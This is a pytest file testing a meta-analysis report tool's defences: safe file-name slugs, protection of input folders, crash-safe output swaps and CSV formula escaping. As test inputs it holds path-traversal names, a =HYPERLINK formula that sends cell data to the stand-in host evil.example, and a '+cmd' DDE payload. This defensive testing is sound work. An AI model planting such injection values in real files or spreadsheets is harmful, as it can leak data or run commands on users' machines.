"""Hostile output targets and names: nothing escapes --out, the output is all or nothing.

* names from the input become safe slugs; distinct names never share a file;
* --out equal to, inside or containing the studies or plan folder is refused
  (exit 2, inputs unchanged, nothing written);
* the folder is replaced as a whole: a process killed at any point of the
  build or the swap leaves the complete old or the complete new output, and the
  next run cleans up (tested by forking a writer and SIGKILLing it);
* files 0644 / folders 0755 less the umask; the same bytes whatever the
  spelling of the paths.
"""

import hashlib
import os
import signal
import time
from pathlib import Path

import pytest
from hostile_cases import LEAK_PLAN, leak, pain, study, three_leak_studies, write_studies

from metaanalysis.cli import main
from metaanalysis.report.output import (
    MANIFEST,
    MAX_SLUG,
    RESERVED_NAMES,
    SLUG_CHARACTERS,
    OutputError,
    OutputNameError,
    OutputTree,
    slug,
    write_output,
)
from metaanalysis.report.run import run_report

HOSTILE_NAMES = ["..", ".", "../../../../ESCAPED", "/", "/etc/passwd", "C:\\Windows\\x",
                 "a\x00b", "a\nb", "CON", "con.txt", "NUL", "com1", "LPT9.csv", "x" * 300,
                 "über 1 Monat", "東京", "   ", "", ".hidden", "-rf", "a/b", "a-b", "a..b"]


def _tree_hashes(folder: Path) -> dict:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_slug_is_safe_for_every_hostile_name(name):
    s = slug(name)
    assert s and set(s) <= set(SLUG_CHARACTERS) and len(s) <= MAX_SLUG
    assert not s.startswith((".", "-")) and ".." not in s
    assert s.split(".")[0] not in RESERVED_NAMES
    assert slug(name) == s  # stable


def test_distinct_names_never_share_a_file(tmp_path):
    tree = OutputTree(tmp_path)
    paths = {tree.path("forest", "leak", name, "lesions") for name in ("a/b", "A", "x" * 300)}
    assert len(paths) == 3 and all(p.parent == tmp_path / "forest" for p in paths)
    with pytest.raises(OutputNameError, match=r"'leak' / 'a/b' / 'lesions' and 'leak' / 'a-b'"):
        tree.path("forest", "leak", "a-b", "lesions")
    with pytest.raises(OutputNameError):
        tree.path("forest", "leak", "a", "lesions")  # "A" and "a" on a case-insensitive disk
    assert tree.path("forest", "leak", "a/b", "lesions") in paths  # the same name again is fine
    for bad in ("../x", "/etc/x", "a/../../x", "a\x00b"):
        with pytest.raises(OutputError):
            tree.write_text(bad, "x")
    (tmp_path / "link").symlink_to(tmp_path.parent)
    with pytest.raises(OutputError, match="resolves outside"):
        tree.write_text("link/escaped.txt", "x")
    assert not (tmp_path.parent / "escaped.txt").exists()


def _pain_folder(tmp_path):
    return write_studies(tmp_path / "s", [study(sid, [
        pain("baseline", 7.0 + i / 10), pain("5 days", 4.0 + i / 5),
        pain("15 days", 3.5 + i / 5), pain("25 days", 3 + i / 5)])
        for i, sid in enumerate(["a2020", "b2021", "c2022"])])


def test_hostile_window_names_stay_inside_out(tmp_path):
    folder = _pain_folder(tmp_path)
    plan = tmp_path / "p" / "plan.yaml"
    plan.parent.mkdir()
    names = ["../../../../ESCAPED", "/tmp/abs", "CON", "über 1 Monat"]
    wins = ", ".join(f'"{n}": [{10 * i}, {10 * i + 9}]' for i, n in enumerate(names))
    plan.write_text("defaults: {few_studies: pool}\n"
                    f"windows: {{{wins}}}\n"
                    "outcomes:\n  - {name: pain_vas, measure: MC, timecourse: true, windows: ["
                    + ", ".join(f'"{n}"' for n in names) + "]}\n", encoding="utf-8")
    before = {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*")}
    out = tmp_path / "o" / "out"
    files = run_report(folder, out=out, plan=plan, quiet=True, formats=("svg",))
    assert all(f.resolve().is_relative_to(out.resolve()) for f in files)
    forest = sorted(p.name for p in (out / "forest").iterdir())
    assert forest == ["pain_vas___con__patients.svg", "pain_vas__escaped__patients.svg",
                      "pain_vas__tmp-abs__patients.svg"]  # 40-49 days: no record, not pooled
    after = {p for p in tmp_path.rglob("*")} - set(before)
    assert all(p.is_relative_to(out) or p == out.parent for p in after)
    assert all(before[p] == p.stat().st_mtime_ns for p in before)  # inputs untouched


def test_window_names_that_share_a_file_name_are_a_plan_error(tmp_path, capsys):
    folder = _pain_folder(tmp_path)
    plan = tmp_path / "p" / "plan.yaml"
    plan.parent.mkdir()
    plan.write_text('windows: {"a/b": [0, 9], "a-b": [10, 19]}\n'
                    "outcomes:\n  - {name: pain_vas, measure: MC, windows: [a/b, a-b]}\n")
    assert main(["report", str(folder), "--plan", str(plan), "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    assert "windows/a-b: gives the same file name (a-b) as 'a/b'" in err
    assert not (tmp_path / "o").exists()


# ------------------------------------------------------------ where --out may be

@pytest.mark.parametrize("where", ["studies", "inside studies", "contains studies",
                                   "plan folder", "inside plan folder", "a file",
                                   "a foreign folder", "symlink to studies"])
def test_out_may_not_touch_the_inputs(tmp_path, capsys, where):
    folder = three_leak_studies(tmp_path / "proj" / "studies")
    plan = tmp_path / "plans" / "plan.yaml"
    plan.parent.mkdir()
    plan.write_text(LEAK_PLAN)
    (tmp_path / "afile").write_text("mine")
    (tmp_path / "foreign").mkdir()
    (tmp_path / "foreign" / "thesis.tex").write_text("mine")
    (tmp_path / "link").symlink_to(folder)
    out = {"studies": folder, "inside studies": folder / "figures",
           "contains studies": tmp_path / "proj", "plan folder": plan.parent,
           "inside plan folder": plan.parent / "out", "a file": tmp_path / "afile",
           "a foreign folder": tmp_path / "foreign", "symlink to studies": tmp_path / "link"}[where]
    before = _tree_hashes(tmp_path)
    rc = main(["report", str(folder), "--plan", str(plan), "--out", str(out)])
    err = capsys.readouterr().err
    assert rc == 2 and "Traceback" not in err and f"--out {out}" in err
    assert _tree_hashes(tmp_path) == before
    assert not [p for p in tmp_path.rglob(".*metaanalysis-*")]


def test_the_default_plan_folder_is_protected_too(tmp_path, capsys):
    folder = three_leak_studies(tmp_path / "studies")
    (folder / "plan.yaml").write_text(LEAK_PLAN)
    before = _tree_hashes(tmp_path)
    assert main(["report", str(folder), "--out", str(folder / "figures")]) == 2
    assert "is inside the studies folder" in capsys.readouterr().err
    assert _tree_hashes(tmp_path) == before


# ------------------------------------------------------------ modes and bytes

@pytest.mark.parametrize("mask, fmode, dmode", [(0o022, 0o644, 0o755), (0o027, 0o640, 0o750)])
def test_files_and_folders_get_the_usual_modes_less_the_umask(tmp_path, mask, fmode, dmode):
    def build(tree):
        tree.write_text("report.md", "x")
        tree.write_text("forest/a.svg", "y")

    old = os.umask(mask)
    try:
        write_output(tmp_path / "out", build)
    finally:
        os.umask(old)
    out = tmp_path / "out"
    assert out.stat().st_mode & 0o777 == dmode
    assert (out / "forest").stat().st_mode & 0o777 == dmode
    assert {p.stat().st_mode & 0o777 for p in out.rglob("*") if p.is_file()} == {fmode}


def test_same_bytes_whatever_the_spelling_of_the_paths(tmp_path, monkeypatch):
    three_leak_studies(tmp_path / "studies")
    (tmp_path / "studies" / "plan.yaml").write_text(LEAK_PLAN)
    monkeypatch.chdir(tmp_path)
    outs = []
    for i, spelling in enumerate(["studies", "./studies/", str(tmp_path / "studies"),
                                  "../" + tmp_path.name + "/studies"]):
        outs.append(tmp_path / f"o{i}")
        run_report(spelling, out=f"o{i}" if i % 2 else tmp_path / f"o{i}", quiet=True,
                   formats=("svg",))
    first = _tree_hashes(outs[0])
    assert len(first) > 10 and all(_tree_hashes(o) == first for o in outs[1:])


def test_a_crlf_plan_is_copied_byte_for_byte(tmp_path):
    three_leak_studies(tmp_path / "studies")
    plan = tmp_path / "p" / "plan.yaml"
    plan.parent.mkdir()
    plan.write_bytes(LEAK_PLAN.replace("\n", "\r\n").encode())
    run_report(tmp_path / "studies", out=tmp_path / "o", plan=plan, quiet=True, formats=("svg",))
    assert (tmp_path / "o" / "plan.yaml").read_bytes() == plan.read_bytes()


# ------------------------------------------------------------ all or nothing

def _build(label: str, pause: float = 0.0):
    def build(tree):
        for i in range(12):
            tree.write_text(f"sub{i % 3}/f{i}.txt", f"{label} {i}\n")
            if pause:
                time.sleep(pause)
        tree.write_text("report.md", f"{label}\n")
    return build


def _whole(out: Path) -> str:
    """'old' or 'new' when ``out`` is one complete output (else the test fails)."""
    files = _tree_hashes(out)
    listed = (out / MANIFEST).read_text().splitlines()[1:]
    assert sorted(files) == sorted(listed + [MANIFEST])
    label = (out / "report.md").read_text().strip()
    assert all((out / f).read_text().startswith(label) for f in listed)
    return label


def _fork_writer(out: Path, label: str, env: dict, pause: float = 0.0) -> int:
    pid = os.fork()
    if pid == 0:  # the child: write and exit without pytest's cleanup
        try:
            os.environ.update(env)
            write_output(out, _build(label, pause))
        finally:
            os._exit(0)
    return pid


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
@pytest.mark.parametrize("point, exchange", [("built", True), ("swapped", True),
                                             ("built", False), ("set-aside", False),
                                             ("swapped", False)])
def test_a_kill_at_each_point_of_the_swap_leaves_a_whole_output(tmp_path, point, exchange):
    out = tmp_path / "out"
    write_output(out, _build("old"))
    env = {"METAANALYSIS_TEST_KILL_AT": point}
    if not exchange:
        env["METAANALYSIS_TEST_NO_EXCHANGE"] = "1"
    _, status = os.waitpid(_fork_writer(out, "new", env), 0)
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
    seen = _whole(out) if out.exists() else None
    assert seen == {"built": "old", "swapped": "new", "set-aside": None}[point]
    assert [p.name for p in tmp_path.iterdir() if p.name != "out"]  # leftovers of the kill
    write_output(out, _build("next"))  # the next run cleans up (and restores a set-aside one)
    assert _whole(out) == "next"
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_sigkill_at_intervals_never_leaves_a_mixed_folder(tmp_path):
    out = tmp_path / "out"
    write_output(out, _build("old"))
    seen = set()
    for i, delay in enumerate((0.0, 0.01, 0.03, 0.06, 0.1, 0.15, 0.25)):
        pid = _fork_writer(out, f"new{i}", {}, pause=0.01)
        time.sleep(delay)
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        seen.add(_whole(out)[:3])
    write_output(out, _build("last"))
    assert _whole(out) == "last" and [p.name for p in tmp_path.iterdir()] == ["out"]
    assert "old" in seen


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_a_killed_report_run_leaves_the_old_output(tmp_path):
    folder = three_leak_studies(tmp_path / "studies")
    (folder / "plan.yaml").write_text(LEAK_PLAN)
    out = tmp_path / "out"
    run_report(folder, out=out, quiet=True, formats=("svg",))
    before = _tree_hashes(out)
    # `metaanalysis report` (the command line's main) in a forked copy of this process
    # (no new interpreter to start and import into), SIGKILLed when the new output is
    # built, before the swap
    pid = os.fork()
    if pid == 0:  # the child: run the command and exit without pytest's cleanup
        try:
            os.environ.update(METAANALYSIS_TEST_KILL_AT="built", MPLBACKEND="Agg")
            main(["report", str(folder), "--out", str(out), "--quiet"])
        finally:
            os._exit(1)  # not killed: the assertion below fails
    _, status = os.waitpid(pid, 0)
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
    assert _tree_hashes(out) == before
    assert any(p.name.startswith(".out.metaanalysis-tmp-") for p in tmp_path.iterdir())
    run_report(folder, out=out, quiet=True, formats=("svg",))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "studies"]


def test_text_from_the_studies_cannot_become_a_spreadsheet_formula(tmp_path):
    from metaanalysis.records.studies import load_studies
    from metaanalysis.report.run import effect_size_tables
    from metaanalysis.report.tables import to_csv_text

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    folder = write_studies(tmp_path / "s", [study("a2020", [dict(leak(3, 40), note=evil)],
                                                  source="+cmd|' /C calc'!A0")])
    (_, _, _, table), = effect_size_tables(load_studies(folder))
    text = to_csv_text(table)
    assert "'=HYPERLINK" in text and "'+cmd|" in text
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert evil in {c[1:] for c in cells} and not any(c.startswith(("=", "+", "@")) for c in cells)


@pytest.mark.parametrize("kind", ["broken_symlink", "directory"])
def test_a_plan_yaml_that_is_not_a_file_is_an_error_not_the_default_plan(tmp_path, capsys, kind):
    folder = three_leak_studies(tmp_path / "studies")
    if kind == "directory":
        (folder / "plan.yaml").mkdir()
    else:
        (folder / "plan.yaml").symlink_to(tmp_path / "nowhere.yaml")
    assert main(["report", str(folder), "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    assert f"{folder / 'plan.yaml'}: -: " in err and not (tmp_path / "o").exists()


from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_slug_invariants_for_any_text(name):
    s = slug(name)
    assert s and set(s) <= set(SLUG_CHARACTERS) and len(s) <= MAX_SLUG
    assert not s.startswith((".", "-", "_")) or s.startswith("_") and s[1:].split(".")[0] in \
        RESERVED_NAMES
    assert s.split(".")[0] not in RESERVED_NAMES and ".." not in s
